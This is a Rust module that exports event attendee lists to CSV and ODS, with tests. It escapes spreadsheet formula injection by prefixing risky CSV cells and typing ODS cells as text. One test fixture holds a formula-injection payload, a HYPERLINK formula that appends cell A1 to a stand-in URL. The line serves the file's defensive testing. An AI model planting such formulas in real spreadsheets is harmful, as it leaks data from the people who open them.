//! Attendee lists as CSV and ODS. A session's list is bounded by its size, so it is built in
//! memory. CSV cells that a spreadsheet would run as a formula (`= + - @`, tab, CR) get a `'`
//! in front; ODS cells are typed as text (`office:value-type="string"`) and never hold a
//! formula, so they need no such prefix.

use crate::i18n::{Lang, sessions_admin as texts};
use inspraak_domain::session::{CancelReason, RegistrationState};
use inspraak_store::sessions::RegistrationRow;
use std::io::Write;

/// The label of a sign-up's state.
pub fn state_label(lang: Lang, row: &RegistrationRow) -> &'static str {
    let t = texts::texts(lang);
    match (row.state, row.cancel_reason) {
        (RegistrationState::Pending, _) => t.state_pending,
        (RegistrationState::Confirmed, _) => t.state_confirmed,
        (RegistrationState::Waitlisted, _) => t.state_waitlisted,
        (RegistrationState::Cancelled, Some(CancelReason::Expired)) => t.state_expired,
        (RegistrationState::Cancelled, _) => t.state_cancelled,
    }
}

/// The rows of the list: the sign-ups we still hold personal data of, header first.
pub fn table(lang: Lang, rows: &[RegistrationRow]) -> Vec<Vec<String>> {
    let t = texts::texts(lang);
    let yes_no = |b: bool| if b { t.yes } else { t.no }.to_owned();
    let mut table = vec![
        [
            t.col_name,
            t.col_email,
            t.col_organisation,
            t.col_needs,
            t.col_state,
            t.col_signed_up,
            t.col_attended,
            t.col_report,
        ]
        .map(str::to_owned)
        .to_vec(),
    ];
    for row in rows {
        let Some(person) = &row.registrant else {
            continue;
        };
        table.push(vec![
            person.name.clone(),
            person.email.clone(),
            person.organisation.clone().unwrap_or_default(),
            person.needs.clone().unwrap_or_default(),
            state_label(lang, row).to_owned(),
            lang.date_time(row.created_at),
            row.attended.map(yes_no).unwrap_or_default(),
            yes_no(person.wants_report),
        ]);
    }
    table
}

/// Neutralises a cell a spreadsheet would otherwise run as a formula.
pub fn neutralise(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

pub fn csv(table: &[Vec<String>]) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    for row in table {
        writer.write_record(row.iter().map(|cell| neutralise(cell)))?;
    }
    writer
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

fn xml_escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            // Tabs and line breaks are allowed in XML; other control characters are not.
            c if c.is_control() && !matches!(c, '\n' | '\t') => {}
            c => out.push(c),
        }
    }
    out
}

const MIMETYPE: &str = "application/vnd.oasis.opendocument.spreadsheet";

const MANIFEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:version="1.2" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>
"#;

fn content_xml(sheet: &str, table: &[Vec<String>]) -> String {
    let mut xml = String::from(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body><office:spreadsheet>"#,
    );
    xml.push_str(&format!(
        r#"<table:table table:name="{}">"#,
        xml_escape(sheet)
    ));
    for row in table {
        xml.push_str("<table:table-row>");
        for cell in row {
            xml.push_str(r#"<table:table-cell office:value-type="string">"#);
            for line in cell.split('\n') {
                xml.push_str("<text:p>");
                xml.push_str(&xml_escape(line));
                xml.push_str("</text:p>");
            }
            xml.push_str("</table:table-cell>");
        }
        xml.push_str("</table:table-row>");
    }
    xml.push_str("</table:table></office:spreadsheet></office:body></office:document-content>\n");
    xml
}

/// An OpenDocument spreadsheet: `mimetype` first and uncompressed, as the format requires.
pub fn ods(sheet: &str, table: &[Vec<String>]) -> zip::result::ZipResult<Vec<u8>> {
    use zip::write::SimpleFileOptions;
    let stored = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("mimetype", stored)?;
    zip.write_all(MIMETYPE.as_bytes())?;
    zip.start_file("META-INF/manifest.xml", stored)?;
    zip.write_all(MANIFEST.as_bytes())?;
    zip.start_file("content.xml", stored)?;
    zip.write_all(content_xml(sheet, table).as_bytes())?;
    Ok(zip.finish()?.into_inner())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Vec<Vec<String>> {
        vec![
            vec!["Naam".into(), "Organisatie".into()],
            vec![
                "=HYPERLINK(\"http://x?\"&A1)".into(),
                "De \"Club\", Utrecht\r\nregel 2".into(),
            ],
            vec!["+31 6 1234".into(), "-5".into()],
            vec!["@SUM(A1)".into(), "\tgetabd".into()],
        ]
    }

    #[test]
    fn csv_cells_that_could_run_as_formulas_are_neutralised_and_columns_kept() {
        let bytes = csv(&table()).unwrap_or_default();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| {
                r.map(|r| r.iter().map(str::to_owned).collect())
                    .unwrap_or_default()
            })
            .collect();
        assert_eq!(rows.len(), 4);
        assert!(rows.iter().all(|r| r.len() == 2));
        assert_eq!(rows[1][0], "'=HYPERLINK(\"http://x?\"&A1)");
        assert_eq!(rows[1][1], "De \"Club\", Utrecht\r\nregel 2");
        assert_eq!(rows[2], ["'+31 6 1234", "'-5"]);
        assert_eq!(rows[3], ["'@SUM(A1)", "'\tgetabd"]);
    }

    #[test]
    fn ods_is_a_zip_with_the_mimetype_first_and_text_cells_only() {
        let bytes = ods("Deelnemers <1>", &table()).unwrap_or_default();
        // The mimetype is the first entry, stored: readable at a fixed offset.
        assert_eq!(&bytes[30..38], b"mimetype");
        assert_eq!(&bytes[38..38 + MIMETYPE.len()], MIMETYPE.as_bytes());
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains(r#"table:name="Deelnemers &lt;1&gt;""#));
        assert!(text.contains("=HYPERLINK(&quot;http://x?&quot;&amp;A1)"));
        assert!(!text.contains("table:formula"));
    }
}
